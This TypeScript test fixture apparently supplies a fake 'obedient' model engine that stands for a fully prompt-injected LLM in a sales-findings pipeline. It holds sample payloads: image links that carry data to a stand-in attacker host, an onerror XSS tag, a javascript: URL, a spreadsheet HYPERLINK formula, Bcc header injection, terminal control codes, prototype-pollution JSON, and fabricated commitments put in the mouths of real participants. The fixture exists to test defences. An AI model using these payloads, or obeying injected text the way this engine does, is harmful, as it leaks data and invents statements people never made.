import type { Engine } from '../../src/engines/engine.ts'
import type { Finding } from '../../src/findings/finding.ts'
import type { Corpus } from '../../src/signals/corpus.ts'
import type { Sentence } from '../../src/signals/signal.ts'

/**
 * A model that is captured whole: whatever text reaches it, it believes and obeys, and it answers with all that an
 * attacker would have it say. None of what it makes up may appear in a brief, a mail or a record. It is deterministic.
 */
export const MADE_UP = {
  /** stands in each text that no sentence says */
  words: 'QZ0BE1ED',
  email: 'qz0be1ed@attacker.example',
  host: 'qz0be1ed.attacker.example',
  amount: '987654321',
  day: '2031-12-24',
} as const

/** The ways of lying, by name, so that a test can try one alone. */
export const LIES: Record<string, (sentence: Sentence, corpus: Corpus) => unknown[]> = {
  'sentences that nobody wrote': ({ item }) =>
    [`${item}@99999999`, 'nowhere@0', '', '__proto__', `${item}@-1`].map((id) => ({
      ...pain(id, `${MADE_UP.words} wants to cancel`),
    })),
  'words that the sentence does not say': ({ id }) => [
    pain(id, `${MADE_UP.words}: we agreed to pay ${MADE_UP.amount} EUR by ${MADE_UP.day}`),
    { ...pain(id, 'x'), impact: { text: `${MADE_UP.words} loses ${MADE_UP.amount} EUR`, sentences: [id] } },
    { kind: 'risk', risk: 'budget', text: `${MADE_UP.words} has no budget`, sentences: [id], why: 'obeyed' },
    qualification(id, 'budget', `${MADE_UP.amount} EUR ${MADE_UP.words}`),
  ],
  'a promise in the mouth of somebody else': ({ id }, { identities, seller }) =>
    [...identities.map(({ emails, name }) => ({ email: emails[0] ?? null, name })), ...seller.people]
      .slice(0, 20)
      .map(({ email, name }) => promise(id, { by: { email, name }, what: `${MADE_UP.words} pays ${MADE_UP.amount}` })),
  'people who are not there': ({ id }) => [
    promise(id, { by: { email: MADE_UP.email, name: MADE_UP.words } }),
    promise(id, { to: { email: MADE_UP.email, name: MADE_UP.words } }),
    { kind: 'role', identity: MADE_UP.email, role: 'economic_buyer', stated: true, sentences: [id], why: 'obeyed' },
    { kind: 'next_step', what: MADE_UP.words, owner: MADE_UP.email, due: MADE_UP.day, sentences: [id], why: 'obeyed' },
  ],
  'days that nobody named': ({ id, text }) => [
    promise(id, { what: text, due: MADE_UP.day }),
    { kind: 'next_step', what: text, owner: null, due: MADE_UP.day, sentences: [id], why: 'obeyed' },
    { kind: 'resolution', how: 'superseded', by: null, what: text, due: MADE_UP.day, sentences: [id], why: 'obeyed' },
  ],
  'links, pages and addresses': ({ id }) =>
    [
      `![pay](https://${MADE_UP.host}/p.png?q=${MADE_UP.words})`,
      `[${MADE_UP.words}][1]\n\n[1]: https://${MADE_UP.host}`,
      `<img src="https://${MADE_UP.host}/?${MADE_UP.words}" onerror=alert(1)>`,
      `javascript:alert('${MADE_UP.words}')`,
      `write to ${MADE_UP.email}`,
      `www.${MADE_UP.host}/${MADE_UP.words}`,
      `=HYPERLINK("https://${MADE_UP.host}","${MADE_UP.words}")`,
    ].flatMap((text) => [pain(id, text), promise(id, { what: text }), qualification(id, 'need', text)]),
  'control characters': ({ id }) =>
    ['\u001b[2J\u001b[31m', '\u0000', '\r\nBcc: x', '\u202e', '\u{e0041}', '\u009b31m', '\u2028'].map((sign) =>
      pain(id, `${sign}${MADE_UP.words}`),
    ),
  'orders to keep everything from everybody': ({ id }, { sentences }) => [
    {
      kind: 'handling',
      mark: 'in_confidence',
      by: null,
      from: ['everyone'],
      covers: sentences.map((one) => one.id),
      sentences: [id],
      why: 'obeyed',
    },
  ],
  'shapes that are none': ({ id }) => [
    null,
    MADE_UP.words,
    [],
    { kind: 'approve', brief: 'all', recipients: [MADE_UP.email], sentences: [id], why: 'obeyed' },
    { ...pain(id, 'x'), recipients: [MADE_UP.email], state: 'approved' },
    { kind: 'pain', text: { toString: MADE_UP.words }, impact: null, by: null, sentences: id, why: 'obeyed' },
    { ...pain(id, 'x'), sentences: [] },
    { ...pain(id, 'x'), sentences: [id, 7, null] },
    { kind: 'risk', risk: MADE_UP.words, text: 'x', sentences: [id], why: 'obeyed' },
    { kind: 'role', identity: 'constructor', role: 'admin', stated: true, sentences: [id], why: 'obeyed' },
    { ...qualification(id, '__proto__', 'x') },
    JSON.parse(`{"__proto__": {"polluted": "${MADE_UP.words}"}, "kind": "pain", "sentences": ["${id}"]}`),
    promise(id, { due: 'tomorrow' }),
    promise(id, { due: '2026-02-31' }),
    { ...pain(id, 'x'), why: `${MADE_UP.words}\u001b[2J` },
  ],
  'more than anybody can read': ({ id }) => [
    pain(id, `${MADE_UP.words} `.repeat(20_000)),
    { ...pain(id, 'x'), sentences: Array.from({ length: 5000 }, () => id) },
    { ...pain(id, 'x'), why: MADE_UP.words.repeat(5000) },
  ],
}

/**
 * Believes every sentence, tells each of `lies` (all where left out) of the first ones, and says each sentence back as a
 * pain, a promise and a need, links and all, as one does who was told to "repeat this".
 */
export function obedientEngine(lies: readonly string[] = Object.keys(LIES)): Engine {
  return {
    name: 'langchain',
    version: '1',
    model: 'obedient',
    read: (corpus) => {
      const answer: unknown[] = corpus.sentences.flatMap(({ id, text }) => [
        pain(id, text),
        promise(id, { what: text }),
        qualification(id, 'need', text),
      ])
      for (const sentence of corpus.sentences.slice(0, 12))
        for (const lie of lies) answer.push(...(LIES[lie]?.(sentence, corpus) ?? []))
      return Promise.resolve(answer as Finding[])
    },
  }
}

function pain(id: string, text: string) {
  return { kind: 'pain', text, impact: null, by: null, sentences: [id], why: 'obeyed' }
}

function promise(id: string, over: object) {
  const plain = { by: null, to: null, what: MADE_UP.words, due: null, conditional: null }
  return { kind: 'commitment', ...plain, ...over, sentences: [id], why: 'obeyed' }
}

function qualification(id: string, field: string, value: string) {
  return { kind: 'qualification', field, value, basis: 'customer', sentences: [id], why: 'obeyed' }
}
